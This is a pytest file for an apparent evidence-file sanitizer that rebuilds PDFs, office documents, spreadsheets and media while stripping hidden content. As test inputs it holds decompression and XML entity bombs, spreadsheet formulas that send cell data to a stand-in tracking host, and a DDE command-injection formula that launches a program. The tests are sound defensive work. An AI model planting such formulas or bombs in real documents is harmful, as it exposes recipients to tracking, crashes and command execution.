"""What the workshop refuses, and what it leaves as it looks."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import escape, unescape

import pikepdf
import pypdfium2
import pytest
from openpyxl.workbook.defined_name import DefinedName
from PIL import Image, ImageChops

from complaints.evidence.clean import FileCleaner, NotCleaned
from complaints.evidence.errors import Reason
from complaints.evidence.kinds import FileKind
from complaints.evidence.workshop import office, pdf
from complaints.evidence.workshop.errors import NotSure
from complaints.evidence.workshop.films import bare_film
from complaints.evidence.workshop.jpeg import bare_jpeg
from complaints.evidence.workshop.pdf import rebuilt_pdf
from complaints.evidence.workshop.sounds import bare_amr, bare_mp3, bare_ogg
from tests.evidence.carriers import SEEN, docx, film, mp3_frames, ogg, open_document, rels
from tests.evidence.carriers import pdf as a_pdf
from tests.evidence.samples import archive, bomb_png, canary_jpeg, decoded, encoded, halves


def drawn(body: bytes) -> Image.Image:
    with pypdfium2.PdfDocument(body) as document:
        picture: Image.Image = document[0].render(scale=1).to_pil()
        return picture.convert("L")


def darkest(picture: Image.Image) -> int:
    return min(picture.tobytes())


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()


def test_a_page_looks_as_it_did() -> None:
    body = a_pdf()

    assert ImageChops.difference(drawn(body), drawn(rebuilt_pdf(body))).getextrema() == (0, 0)


def test_a_hidden_layer_is_not_brought_to_light() -> None:
    from tests.evidence.carriers import layer

    body = a_pdf(layer)

    where_it_would_stand = drawn(rebuilt_pdf(body)).crop((0, 188, 60, 200))
    assert darkest(where_it_would_stand) > 240
    assert darkest(drawn(body)) < 50


def test_pixels_of_a_jpeg_inside_stay_as_they_are() -> None:
    body = canary_jpeg()

    bare = bare_jpeg(body)

    assert b"CANARY" not in bare
    assert decoded(bare).tobytes() == decoded(body).tobytes()


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(locked_pdf, id="locked with a password"),
        pytest.param(lambda: b"%PDF-1.7 nonsense", id="no document"),
    ],
)
def test_a_pdf_that_cannot_be_read_is_not_sure(make: Callable[[], bytes]) -> None:
    with pytest.raises(NotSure):
        rebuilt_pdf(make())


def pdf_bomb() -> bytes:
    def unfold(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, bytes(pdf.MOST_PIXELS + 10_000))
        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        stream.Width, stream.Height, stream.BitsPerComponent = 6_001, 10_000, 8
        stream.ColorSpace = pikepdf.Name.DeviceGray
        made.pages[0].obj.Resources.XObject.Im9 = stream

    return a_pdf(unfold)


def zip_bomb() -> bytes:
    return docx(more={"word/styles.xml": b"<x>" + bytes(office.MEMBER_BYTES) + b"</x>"})


def many_members() -> bytes:
    return docx(more={f"docProps/{n}.xml": b"" for n in range(office.MOST_MEMBERS)})


def entity_bomb() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(9))
    return docx(more={"word/styles.xml": f"<!DOCTYPE x [{lines}]><x>&a8;</x>".encode()})


def picture_bomb() -> bytes:
    return docx(more={"word/media/image1.png": bomb_png(20_000, 20_000)})


@pytest.mark.parametrize(
    ("make", "kind", "reason"),
    [
        pytest.param(pdf_bomb, FileKind.PDF, Reason.TOO_LARGE_INSIDE, id="PDF bomb"),
        pytest.param(zip_bomb, FileKind.DOCX, Reason.TOO_LARGE_INSIDE, id="archive bomb"),
        pytest.param(many_members, FileKind.DOCX, Reason.TOO_LARGE_INSIDE, id="many members"),
        pytest.param(picture_bomb, FileKind.DOCX, Reason.TOO_LARGE_INSIDE, id="huge picture"),
        pytest.param(entity_bomb, FileKind.DOCX, Reason.NOT_CLEANABLE, id="entity bomb"),
    ],
)
def test_a_bomb_is_refused_within_limits(
    make: Callable[[], bytes], kind: FileKind, reason: Reason, cleaner: FileCleaner
) -> None:
    body, started = make(), time.monotonic()

    with pytest.raises(NotCleaned) as refused:
        cleaner.clean(body, kind)

    assert refused.value.reason is reason
    assert time.monotonic() - started < 15


def nested() -> dict[str, bytes]:
    return {"word/embeddings/inner.docx": docx()}


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda: docx(more=nested()), id="archive in an archive"),
        pytest.param(lambda: docx("<w:p><w:object/></w:p>"), id="object of another program"),
        pytest.param(lambda: docx(more={"word/media/1.emf": b"\1\0\0\0"}), id="vector picture"),
        pytest.param(lambda: docx(more={"word/unheard.bin": b"x"}), id="unknown part"),
        pytest.param(lambda: docx('<q:p xmlns:q="urn:q">words</q:p>'), id="unknown words"),
        pytest.param(lambda: archive({"word/document.xml": b"<x/>"}), id="no list of parts"),
    ],
)
def test_a_document_that_holds_more_than_we_know_is_not_sure(make: Callable[[], bytes]) -> None:
    with pytest.raises(NotSure):
        office.rebuilt_office(make(), "docx", 5000)


def test_a_rebuilt_document_holds_together() -> None:
    shown = '<w:p><w:r><a:blip r:embed="rId5"/><a:blip r:embed="rId6"/></w:r></w:p>'
    body = docx(shown, {
        "word/media/image1.png": encoded(halves(), "PNG"),
        "word/_rels/document.xml.rels": rels(
            ("rId5", "image", "media/image1.png"), ("rId6", "image", "media/gone.png")
        ),
    })  # fmt: skip

    with zipfile.ZipFile(io.BytesIO(office.rebuilt_office(body, "docx", 5000))) as made:
        names, document = set(made.namelist()), made.read("word/document.xml")
        links = made.read("word/_rels/document.xml.rels")

    assert names == {
        "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/media/image1.png",
        "word/_rels/document.xml.rels",
    }  # fmt: skip
    assert (b"rId5" in document, b"rId6" in document) == (True, False)
    assert b"gone.png" not in links
    assert {entry.date_time for entry in made.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_workbook_opens_again_with_its_cells() -> None:
    import openpyxl

    from tests.evidence.carriers import xlsx

    book = openpyxl.load_workbook(io.BytesIO(office.rebuilt_office(xlsx(), "xlsx", 5000)))

    assert book.active["A1"].value == SEEN
    assert book.active["A2"].comment is None
    assert book.properties.creator in {None, "openpyxl"}


CALLING = [
    '_xlfn.WEBSERVICE("https://track.example/"&A1)',
    "_xlfn.IMAGE(A1)",
    'HYPERLINK("https://track.example/","x")',
    'RTD("some.server",,"x")',
    "cmd|' /C calc'!A0",
    r"'\\\\track.example\\share\\[x.xlsx]1'!A1",
    "[1]Sheet1!A1",
]


@pytest.mark.parametrize("formula", CALLING)
def test_no_formula_of_a_workbook_tells_anybody_that_it_was_opened(formula: str) -> None:
    """A document handed on by somebody who did not know that it is watched."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = f"={formula}", "=SUM(B1:B3)"
    book.defined_names["watch"] = DefinedName("watch", attr_text=formula)
    out = io.BytesIO()
    book.save(out)

    with zipfile.ZipFile(io.BytesIO(office.rebuilt_office(out.getvalue(), "xlsx", 5000))) as made:
        parts = {name: made.read(name).decode() for name in made.namelist()}

    assert "SUM(B1:B3)" in parts["xl/worksheets/sheet1.xml"]
    assert "A1" in parts["xl/worksheets/sheet1.xml"]
    for told in (formula, "track.example", "<definedName "):
        assert not [name for name, part in parts.items() if told in unescape(part)]


@pytest.mark.parametrize(
    "formula",
    [
        'of:=WEBSERVICE("https://track.example/")',
        'of:=DDE("soffice";"file";"A1")',
        "of:=['file:///track.example/x.ods'#$Sheet1.A1]",
    ],
)
def test_no_formula_of_an_open_workbook_does_either(formula: str) -> None:
    body = open_document(FileKind.ODS, (
        "<office:spreadsheet><table:table><table:table-row>"
        f"<table:table-cell table:formula='{escape(formula, {chr(39): '&apos;'})}'>"
        "<text:p>7</text:p></table:table-cell>"
        '<table:table-cell table:formula="of:=SUM([.B1:.B3])"/>'
        "</table:table-row></table:table><table:dde-links><table:dde-link>"
        '<office:dde-source office:dde-application="track.example"/>'
        "</table:dde-link></table:dde-links></office:spreadsheet>"
    ))  # fmt: skip

    with zipfile.ZipFile(io.BytesIO(office.rebuilt_office(body, "ods", 5000))) as made:
        content = unescape(made.read("content.xml").decode())

    assert "of:=SUM([.B1:.B3])" in content
    assert ">7<" in content
    assert formula not in content
    assert "track.example" not in content


@pytest.mark.parametrize(
    ("bare", "body"),
    [
        pytest.param(bare_film, film()[:-400], id="film cut off"),
        pytest.param(bare_film, film().replace(b"avc1", b"xyz1"), id="film of unknown coding"),
        pytest.param(bare_film, film().replace(b"mdat", b"junk"), id="film without data"),
        pytest.param(bare_mp3, b"ID3" + bytes(4000), id="no sound"),
        pytest.param(bare_ogg, ogg() + b"more", id="more behind"),
        pytest.param(bare_ogg, ogg().replace(b"OpusTags", b"OtherTag"), id="unknown stream"),
        pytest.param(bare_amr, b"#!AMR\nno frames", id="no frames"),
    ],
)
def test_what_is_not_built_as_we_know_is_not_sure(
    bare: Callable[[bytes], bytes], body: bytes
) -> None:
    with pytest.raises(NotSure):
        bare(body)


def test_frames_of_sound_stay_to_the_byte() -> None:
    amr = b"#!AMR\n" + (b"\x3c" + bytes(31)) * 5

    assert bare_mp3(mp3_frames()) == mp3_frames()
    assert bare_amr(amr) == amr
